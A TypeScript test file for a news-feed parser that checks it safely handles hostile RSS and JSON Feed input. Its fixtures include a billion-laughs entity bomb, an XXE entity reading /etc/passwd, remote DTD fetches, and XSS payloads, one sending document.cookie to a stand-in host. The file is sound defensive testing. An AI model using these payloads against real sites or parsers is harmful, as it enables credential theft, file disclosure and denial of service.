import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFeedDocument, readFeedText } from '../src/sources/feed-document.ts';
import { FeedDocumentError, MAX_ITEMS_PER_DOCUMENT, parseFeedDocument } from '../src/sources/parse-feed.ts';

const context = { sourceId: 'src_hostile', categories: ['news'], feedUrl: 'https://hostile.example/feed.xml', fetchedAt: new Date('2026-11-27T06:00:00Z') };
const rss = (items: string, prolog = '') =>
  `<?xml version="1.0"?>${prolog}<rss version="2.0"><channel><title>Hostile</title><link>https://hostile.example/</link>${items}</channel></rss>`;

function failure(text: string): FeedDocumentError {
  try {
    readFeedText(text, context);
  } catch (error) {
    if (error instanceof FeedDocumentError) return error;
    throw error;
  }
  throw new Error('the document was read');
}

describe('entities', () => {
  it('billion laughs: entities are never expanded', () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');
    const doc = rss(
      '<item><title>&lol9;</title><link>https://hostile.example/1</link><description>&lol9;&lol9;</description></item>',
      `<!DOCTYPE rss [<!ENTITY lol0 "lol">\n${levels}]>`,
    );
    const value = readFeedText(doc, context);
    expect(value.articles).toHaveLength(1);
    const [article] = value.articles;
    expect(article!.title).toBe('&lol9;');
    expect(article!.summary).toBe('&lol9;&lol9;');
  });

  it('XXE: an external entity fails the document, and the file is never read into it', () => {
    const doc = rss(
      '<item><title>x &xxe; y</title><link>https://hostile.example/1</link></item>',
      '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    );
    const error = failure(doc);
    expect(error.code).toBe('parse_error');
    expect(error.message).toBe('The feed document could not be parsed.');
    expect(error.message).not.toContain('root:');
  });

  describe('external entities and DTDs over the network', () => {
    let server: Server;
    let port = 0;
    const requests: string[] = [];
    beforeAll(async () => {
      server = createServer((req, res) => {
        requests.push(req.url ?? '');
        res.end('<!ENTITY leak "LEAKED">');
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.address() as AddressInfo).port;
    });
    afterAll(async () => {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    });

    it('are never fetched: a SYSTEM entity, a parameter entity and an external DTD subset make no request', async () => {
      const base = `http://127.0.0.1:${port}`;
      const item = '<item><title>t &leak;</title><link>https://hostile.example/1</link></item>';
      const documents = [
        rss(item, `<!DOCTYPE rss [<!ENTITY leak SYSTEM "${base}/entity">]>`),
        rss(item, `<!DOCTYPE rss [<!ENTITY % remote SYSTEM "${base}/parameter"> %remote;]>`),
        rss(item, `<!DOCTYPE rss SYSTEM "${base}/dtd">`),
      ];
      for (const doc of documents) {
        try {
          const result = readFeedText(doc, context);
          expect(JSON.stringify(result)).not.toContain('LEAKED');
        } catch (error) {
          expect(error).toBeInstanceOf(FeedDocumentError);
        }
      }
      // Give a request that was wrongly started the time to arrive.
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect(requests).toEqual([]);
    });
  });
});

describe('bytes and markup', () => {
  it('invalid UTF-8 is replaced, and the rest of the document is read', () => {
    const head = new TextEncoder().encode('<rss version="2.0"><channel><title>t</title><item><title>Caf');
    const tail = new TextEncoder().encode(' ok</title><link>https://hostile.example/1</link></item></channel></rss>');
    const bytes = Uint8Array.from([...head, 0xe9, 0xc3, ...tail]);
    const { articles } = readFeedDocument(bytes, 'application/rss+xml; charset=utf-8', context);
    expect(articles.map((a) => a.title)).toEqual(['Caf\ufffd\ufffd ok']);
  });

  it('markup and shortcodes in titles become inert plain text', () => {
    const doc = rss(`
      <item><title><![CDATA[<h1 onclick="steal()">Breaking</h1> <a href="javascript:x()">story</a> [gallery ids="1,2"]]]></title><link>https://hostile.example/1</link></item>
      <item><title>&lt;img src=x onerror=alert(1)&gt;Escaped &amp;amp; twice</title><link>https://hostile.example/2</link></item>`);
    const titles = readFeedText(doc, context).articles.map((a) => a.title);
    expect(titles).toEqual(['Breaking story [gallery ids="1,2"]', 'Escaped & twice']);
  });

  it("a <script>'s text never reaches a summary, whether in CDATA, escaped, or in content", () => {
    const doc = rss(`
      <item><title>a</title><link>https://hostile.example/1</link><description><![CDATA[<p>Lead</p><script>fetch('//evil.example?c='+document.cookie)</script>]]></description></item>
      <item><title>b</title><link>https://hostile.example/2</link><description>&lt;script&gt;alert(1)&lt;/script&gt;&lt;p&gt;Second&lt;/p&gt;</description></item>
      <item xmlns:content="http://purl.org/rss/1.0/modules/content/"><title>c</title><link>https://hostile.example/3</link><content:encoded><![CDATA[<div><noscript>n</noscript><style>body{}</style><script type="module">import('x')</script>Third</div>]]></content:encoded></item>`);
    const summaries = readFeedText(doc, context).articles.map((a) => a.summary);
    expect(summaries).toEqual(['Lead', 'Second', 'Third']);
    expect(JSON.stringify(summaries)).not.toMatch(/script|alert|cookie|import/);
  });

  it('CDATA sections, split ones included, are read as text', () => {
    const doc = rss(
      '<item><title><![CDATA[a]]]]><![CDATA[>b & <c>]]></title><link>https://hostile.example/1</link><description><![CDATA[x < y && y > z]]></description></item>',
    );
    const [article] = readFeedText(doc, context).articles;
    expect(article!.title).toBe('a]]>b &');
    expect(article!.summary).toBe('x < y && y > z');
  });
});

describe('size and shape', () => {
  it(`a JSON Feed of 1 000 000 items yields the first ${MAX_ITEMS_PER_DOCUMENT}`, () => {
    const items = Array.from({ length: 1_000_000 }, (_, i) => `{"id":"${i}","url":"/${i}","title":"t${i}"}`);
    const doc = `{"version":"https://jsonfeed.org/version/1.1","title":"big","items":[${items.join(',')}]}`;
    const value = readFeedText(doc, context);
    expect(value.truncated).toBe(true);
    expect(value.articles).toHaveLength(MAX_ITEMS_PER_DOCUMENT);
    expect(value.articles[0]!.url).toBe('https://hostile.example/0');
    expect(value.articles.at(-1)!.identity).toBe(String(MAX_ITEMS_PER_DOCUMENT - 1));
  });

  it('an RSS document with more items than the cap is cut too, and says so', () => {
    const doc = rss(
      Array.from({ length: MAX_ITEMS_PER_DOCUMENT + 50 }, (_, i) => `<item><title>t${i}</title><link>https://hostile.example/${i}</link></item>`).join(''),
    );
    const result = readFeedText(doc, context);
    expect(result.articles).toHaveLength(MAX_ITEMS_PER_DOCUMENT);
    expect(result.truncated).toBe(true);
    expect(readFeedText(doc, { ...context, maxItems: 3 }).articles.map((a) => a.title)).toEqual(['t0', 't1', 't2']);
  });

  it('a deeply nested document fails as parse_error, without exhausting the stack', () => {
    const depth = 100_000;
    const doc = rss(`<item><title>t</title><link>https://hostile.example/1</link><x>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</x></item>`);
    const value = failure(doc);
    expect(value.code).toBe('parse_error');
  });

  it('deeply nested HTML inside a description is reduced to its text', () => {
    const depth = 50_000;
    const doc = rss(
      `<item><title>t</title><link>https://hostile.example/1</link><description><![CDATA[${'<div>'.repeat(depth)}deep${'</div>'.repeat(depth)}]]></description></item>`,
    );
    expect(readFeedText(doc, context).articles[0]!.summary).toBe('deep');
  });
});

describe('what is not a feed, and what does not parse', () => {
  it('a document that is not well-formed imports nothing, even where the feed library would read items', () => {
    const unclosed = '<rss version="2.0"><channel><title>t</title><item><title>x</title><link>https://hostile.example/1</link></item></channel>';
    const misspelt = rss('<item><title>x</titel><link>https://hostile.example/1</link></item>');
    for (const doc of [unclosed, misspelt]) {
      const error = failure(doc);
      expect(error.code).toBe('parse_error');
      expect(error.message).toMatch(/^The document is not well-formed XML \(line \d+, column \d+\)\.$/);
    }
  });

  it('an HTML page, another XML document, other JSON: not_a_feed; broken JSON: parse_error', () => {
    expect(failure('<!doctype html><html><head><title>Home</title></head><body><p>Hello</p></body></html>').code).toBe('not_a_feed');
    expect(failure('<?xml version="1.0"?><sitemap><url/></sitemap>').code).toBe('not_a_feed');
    expect(failure('{"name":"not a feed"}').code).toBe('not_a_feed');
    expect(failure('').code).toBe('not_a_feed');
    expect(failure('{"version":"https://jsonfeed.org/version/1.1","items":[').code).toBe('parse_error');
  });

  it('an empty channel is a feed with no articles', () => {
    const result = parseFeedDocument(rss(''));
    expect(result).toMatchObject({ format: 'rss', title: 'Hostile', items: [], truncated: false });
    expect(readFeedText('{"version":"https://jsonfeed.org/version/1","title":"empty","items":[]}', context).articles).toEqual([]);
  });
});
